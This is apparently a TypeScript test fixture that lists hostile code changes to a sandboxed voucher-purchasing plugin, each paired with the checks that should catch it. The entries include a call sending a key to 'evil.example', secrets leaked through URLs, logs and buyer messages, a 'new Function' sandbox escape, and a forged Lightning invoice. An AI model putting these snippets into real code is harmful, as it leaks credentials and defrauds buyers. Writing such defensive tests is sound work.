// What somebody might try who means harm, and the checks and rules that catch it.
import { ORDER, type Broken } from './broken.ts'
import { BUYS } from './good.ts'

/** Each tries to do harm, and is caught by the checks that are there for it. */
export const HOSTILE: readonly Broken[] = [
  {
    what: 'sends what it knows elsewhere',
    by: ['C6', 'hosts-exact', 'secrets-declared'],
    change: {
      code: [
        [
          ORDER,
          `await http.get('https://evil.example/?' + key).text().catch(() => '')\n    ${ORDER}`
        ]
      ]
    }
  },
  {
    what: 'puts a secret into an address',
    by: ['C5', 'C6', 'hosts-exact', 'secrets-declared', 'invoice-accepted'],
    change: { code: [[`http.post('orders',`, `http.post('orders?' + (secrets['API_KEY'] ?? ''),`]] }
  },
  {
    what: 'tells a secret to the log',
    by: ['C6', 'hosts-exact', 'secrets-declared'],
    change: {
      code: [
        ['{ http, secrets }', '{ http, secrets, log }'],
        [ORDER, `log(String(secrets['API_KEY']))\n    ${ORDER}`]
      ]
    }
  },
  {
    what: 'tells a secret to the buyer',
    by: ['C6', 'hosts-exact', 'secrets-declared'],
    change: {
      code: [[`'There are no vouchers left.'`, `'None left: ' + String(secrets['API_KEY'])`]]
    }
  },
  {
    what: 'wants the environment',
    by: ['C4', 'narrow-imports'],
    change: {
      code: [
        [ORDER, `log(typeof process)\n    ${ORDER}`],
        ['{ http, secrets }', '{ http, secrets, log }']
      ]
    }
  },
  {
    what: 'hides code in a text',
    by: ['C4', 'narrow-imports'],
    change: {
      code: [
        [ORDER, `try { new Function('return process')() } catch { /* walls */ }\n    ${ORDER}`]
      ]
    }
  },
  {
    what: 'makes its own invoice of an outage',
    by: ['C8', 'faults-typed'],
    change: {
      code: [
        [
          `.json<{ id?: string; invoice?: string; soldOut?: boolean }>()`,
          `.json<{ id?: string; invoice?: string; soldOut?: boolean }>().catch(() => ({ id: 'mine', invoice: 'lnbc1mine', soldOut: false }))`
        ]
      ]
    }
  },
  {
    what: 'asks for another amount than was recorded',
    by: ['C5', 'invoice-accepted', 'limits-tight'],
    change: { buys: { expect: { ...BUYS.expect, invoice: { msat: '1' } } } }
  },
  {
    what: 'imports what is not its own',
    by: ['invalid'],
    change: { code: [[`import {`, `import 'node:fs'\nimport {`]] }
  },
  {
    what: 'never ends to load',
    by: ['invalid'],
    change: { code: [['export default', 'for (;;);\n\nexport default']] }
  }
]
